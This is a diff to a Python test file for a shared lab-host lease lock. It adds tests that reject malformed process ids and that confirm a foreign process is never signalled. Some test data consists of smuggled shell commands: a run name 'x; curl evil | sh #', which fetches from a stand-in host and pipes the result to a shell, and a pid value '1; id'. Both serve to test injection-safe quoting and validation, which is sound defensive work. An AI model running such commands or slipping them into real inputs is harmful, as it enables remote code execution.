@@ -1,5 +1,6 @@
 """Other users of the lease host: what they put there neither writes, deletes, shows nor locks."""
 
+import json
 import os
 from dataclasses import replace
 from pathlib import Path
@@ -313,3 +314,32 @@ def test_a_run_that_a_stranger_names_is_one_word_of_a_remedy(folder: Path) -> No
     planted(folder, "g.000000000001", run="x; curl evil | sh #", expires_after_s=1.0)
     said = held_at(folder, "first").take()
     assert "labtests restore 'x; curl evil | sh #' on" in said
+
+
+@pytest.mark.parametrize("pid", [-1, 10**15, 2**63, True, 1.0, "1", None, [1], "1; id"])
+def test_a_process_id_that_is_none_is_garbage(folder: Path, pid: object) -> None:
+    held_at(folder, "first").take()
+    record = folder / "g.000000000001"
+    first, *rest = record.read_text().split("\n")
+    facts = json.loads(first) | {"pid": pid}
+    record.write_text("\n".join([json.dumps(facts), *rest]))
+    with pytest.raises(LeaseUnusable, match="wrong values of pid"):
+        held_at(folder, "second").take()
+
+
+@pytest.mark.parametrize("pid", [0, 1, 2**31, 2**32 - 1, 10**15 - 1])
+@pytest.mark.parametrize("here", [True, False])
+def test_one_that_is_another_processes_signals_nobody(folder: Path, pid: int, here: bool) -> None:
+    """It is only looked up: of this machine it is dead, of another it has the lab."""
+    held_at(folder, "first").take()
+    record = folder / "g.000000000001"
+    first, *rest = record.read_text().split("\n")
+    facts = json.loads(first) | {"pid": pid, "started_ticks": 10**15 - 1}
+    facts |= {} if here else {"boot": "another", "machine": "elsewhere"}
+    record.write_text("\n".join([json.dumps(facts), *rest]))
+    second = held_at(folder, "second")
+    if here:
+        assert "did not give the lab back" in second.take()
+    else:
+        with pytest.raises(LeaseBusy, match=f"process {pid}"):
+            second.take()
